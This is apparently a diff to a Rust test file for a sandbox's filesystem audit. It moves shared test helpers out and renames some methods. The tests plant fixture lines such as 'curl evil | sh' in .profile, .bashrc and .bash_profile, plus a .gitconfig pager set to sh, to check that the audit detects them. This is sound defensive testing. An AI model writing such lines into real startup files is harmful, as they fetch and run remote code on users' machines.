@@ -9,58 +9,19 @@
 use std::fs;
 use std::os::unix::fs::symlink;
 use std::path::PathBuf;
-use std::time::{Duration, SystemTime};
+use std::time::Duration;
 
 use srt_compiler::audit::AuditPlan;
-use srt_compiler::{resolve, ResolveOptions};
-use srt_runtime::audit::{audit, audit_indexed, AuditReport, IndexOptions, Since};
+use srt_runtime::audit::{audit, audit_indexed, AuditReport, Since};
 
-struct Tree {
-    root: tempfile::TempDir,
-}
+use crate::common::tree::{found, next_second, Tree};
 
 impl Tree {
-    fn new() -> Self {
-        let root = tempfile::tempdir().unwrap();
-        for d in ["home", "p", "state"] {
-            fs::create_dir_all(root.path().join(d)).unwrap();
-        }
-        Tree { root }
-    }
-
-    fn p(&self, rel: &str) -> PathBuf {
-        self.root.path().join("p").join(rel)
-    }
-
-    fn write(&self, rel: &str, text: &str) {
-        let path = self.p(rel);
-        fs::create_dir_all(path.parent().unwrap()).unwrap();
-        fs::write(path, text).unwrap();
-    }
-
-    fn plan(&self) -> AuditPlan {
-        let loaded = srt_schema::load_str(
-            ".srt.json",
-            None,
-            r#"{"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]},
-                "network":{"allowedDomains":[],"deniedDomains":[]}}"#,
-        );
-        let opts = ResolveOptions {
-            cwd: self.p(""),
-            home: self.root.path().join("home"),
-            settings_path: None,
-        };
-        let (ir, _) = resolve(&loaded.settings, None, &opts, &srt_compiler::RealFs);
-        let mut plan = AuditPlan::from_write_rules(&ir);
-        // Only the project: the default roots (/tmp/claude) change with whatever else runs.
+    /// Only the project: the default roots (/tmp/claude) change with whatever else runs.
+    fn project_plan(&self) -> AuditPlan {
+        let mut plan = self.plan();
         plan.roots.retain(|r| r.path.starts_with(self.p("")));
         plan
-    }
-
-    fn index(&self, settle_secs: i64) -> IndexOptions {
-        let mut o = IndexOptions::in_state_dir(&self.root.path().join("state")).unwrap();
-        o.settle_secs = settle_secs;
-        o
     }
 
     fn index_files(&self) -> Vec<PathBuf> {
@@ -72,32 +33,14 @@ impl Tree {
     }
 
     /// The indexed audit (settled after one second), checked against a full walk.
-    fn audit(&self, plan: &AuditPlan, since: Since) -> AuditReport {
-        let home = self.root.path().join("home");
+    fn indexed_audit(&self, plan: &AuditPlan, since: Since) -> AuditReport {
+        let home = self.home();
         let full = audit(plan, since, &home);
         let indexed = audit_indexed(plan, since, &home, Some(&self.index(1)));
         assert_eq!(found(&full), found(&indexed), "{full:#?}\n{indexed:#?}");
         assert_eq!(full.dirs, indexed.dirs);
         indexed
     }
-}
-
-/// Waits into the next second and returns it.
-fn next_second() -> Since {
-    let now = SystemTime::now()
-        .duration_since(SystemTime::UNIX_EPOCH)
-        .unwrap();
-    std::thread::sleep(Duration::from_nanos(
-        1_000_000_000 - u64::from(now.subsec_nanos()) + 20_000_000,
-    ));
-    Since::now()
-}
-
-fn found(r: &AuditReport) -> Vec<(PathBuf, &'static str)> {
-    r.findings
-        .iter()
-        .map(|f| (f.path.clone(), f.what.code()))
-        .collect()
 }
 
 /// A tree of `n` × `n` directories with a file each, and a few protected names.
@@ -115,7 +58,7 @@ fn populated(t: &Tree, n: usize) {
 fn host_changes_between_runs_and_edits_in_place_are_seen() {
     let t = Tree::new();
     populated(&t, 6);
-    let plan = t.plan();
+    let plan = t.project_plan();
     let warm_since = next_second();
     let warm = audit_indexed(&plan, warm_since, &t.p(""), Some(&t.index(1)));
     assert!(warm.findings.is_empty(), "{warm:#?}");
@@ -129,7 +72,7 @@ fn host_changes_between_runs_and_edits_in_place_are_seen() {
     t.write("src/m3/d3/new/.profile", "curl evil | sh\n");
     t.write("src/m4/d4/.mcp.json", "{\"mcpServers\":{}}\n");
     fs::write(t.p("src/m1/.bashrc"), "curl evil | sh\n").unwrap();
-    let r = t.audit(&plan, since);
+    let r = t.indexed_audit(&plan, since);
     assert_eq!(
         found(&r),
         [
@@ -147,7 +90,7 @@ fn host_changes_between_runs_and_edits_in_place_are_seen() {
 fn a_directory_replaced_by_another_is_listed_again() {
     let t = Tree::new();
     populated(&t, 4);
-    let plan = t.plan();
+    let plan = t.project_plan();
     let _ = audit_indexed(&plan, next_second(), &t.p(""), Some(&t.index(1)));
     let since = next_second();
     // The indexed src/m2 is moved aside and a new one, holding a protected name, put in its
@@ -160,7 +103,7 @@ fn a_directory_replaced_by_another_is_listed_again() {
     fs::rename(t.p("src/m3/d1"), t.p("src/m3/d1-real")).unwrap();
     t.write("src/m3/d1-real/.gitconfig", "[core]\n\tpager = sh\n");
     symlink(t.p("src/m3/d1-real"), t.p("src/m3/d1")).unwrap();
-    let r = t.audit(&plan, since);
+    let r = t.indexed_audit(&plan, since);
     let paths: Vec<PathBuf> = found(&r).into_iter().map(|(p, _)| p).collect();
     assert!(
         paths.contains(&t.p("src/m2/d1/.git/hooks/pre-commit"))
@@ -179,7 +122,7 @@ fn a_renamed_tree_is_seen_at_its_new_place() {
     let t = Tree::new();
     populated(&t, 4);
     t.write("deep/a/b/c/keep.txt", "x");
-    let plan = t.plan();
+    let plan = t.project_plan();
     let _ = audit_indexed(&plan, next_second(), &t.p(""), Some(&t.index(1)));
     let since = next_second();
     // Planted deep in an indexed tree, which is then renamed, and renamed back into another
@@ -187,7 +130,7 @@ fn a_renamed_tree_is_seen_at_its_new_place() {
     t.write("deep/a/b/c/.idea/workspace.xml", "<x/>");
     fs::rename(t.p("deep/a"), t.p("deep/z")).unwrap();
     fs::rename(t.p("deep/z"), t.p("src/m1/z")).unwrap();
-    let r = t.audit(&plan, since);
+    let r = t.indexed_audit(&plan, since);
     assert_eq!(
         found(&r),
         [(t.p("src/m1/z/b/c/.idea/workspace.xml"), "protected-name")],
@@ -199,7 +142,7 @@ fn a_renamed_tree_is_seen_at_its_new_place() {
 fn a_corrupted_or_foreign_index_is_not_trusted() {
     let t = Tree::new();
     populated(&t, 4);
-    let plan = t.plan();
+    let plan = t.project_plan();
     let _ = audit_indexed(&plan, next_second(), &t.p(""), Some(&t.index(1)));
     let files = t.index_files();
     assert_eq!(files.len(), 1);
@@ -226,7 +169,7 @@ fn a_corrupted_or_foreign_index_is_not_trusted() {
         fs::write(&files[0], &bad).unwrap();
         let since = next_second();
         t.write("src/m0/d0/.bash_profile", "curl evil | sh\n");
-        let r = t.audit(&plan, since);
+        let r = t.indexed_audit(&plan, since);
         assert_eq!(r.listed, r.dirs, "a bad index was used: {r:#?}");
         assert_eq!(
             found(&r),
@@ -238,19 +181,19 @@ fn a_corrupted_or_foreign_index_is_not_trusted() {
     // One that another user could have written, or that has a second name, is not read.
     use std::os::unix::fs::PermissionsExt;
     fs::set_permissions(&files[0], fs::Permissions::from_mode(0o666)).unwrap();
-    let r = t.audit(&plan, next_second());
+    let r = t.indexed_audit(&plan, next_second());
     assert_eq!(r.listed, r.dirs, "a writable index was used: {r:#?}");
 }
 
 fn plan_of(t: &Tree) -> AuditPlan {
-    t.plan()
+    t.project_plan()
 }
 
 #[test]
 fn a_directory_changed_within_the_settling_time_is_listed_again() {
     let t = Tree::new();
     populated(&t, 3);
-    let plan = t.plan();
+    let plan = t.project_plan();
     // Indexed at once: nothing is settled yet (the default margin), so the next audit lists
     // every directory again, and only then trusts them.
     let since = Since::now();
